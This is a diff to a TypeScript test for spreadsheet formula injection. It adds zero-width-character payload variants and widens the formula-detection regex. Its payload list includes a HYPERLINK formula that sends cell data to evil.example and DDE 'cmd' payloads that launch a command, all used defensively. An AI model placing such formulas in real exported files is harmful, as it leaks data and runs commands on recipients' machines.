@@ -232,6 +232,9 @@ describe('a table of the office', () => {
     ...leads.map((lead) => `x",${lead}1+1`),
     ...leads.map((lead) => `\u200b${lead}1+1`),
     ...leads.map((lead) => `\ufeff${lead}1+1`),
+    ...leads.map((lead) => `\u200d${lead}1+1`),
+    ...leads.map((lead) => `\ufe0f\u200c${lead}1+1`),
+    ...leads.map((lead) => `x;\u200d${lead}1+1`),
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -246,7 +249,9 @@ describe('a table of the office', () => {
     ...csv.split(/[\r\n;\t]/),
   ]
   const isFormula = (cell: string): boolean =>
-    cell.split(/[\r\n]/).some((line) => /^["\s]*[=+\-@＝＋－＠]/.test(line)) &&
+    cell
+      .split(/[\r\n]/)
+      .some((line) => /^["\s\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u.test(line)) &&
     !/^\+\d[\d ()-]*$/.test(cell)
 
   test('holds no formula that a delegate wrote, however the line is split', async () => {
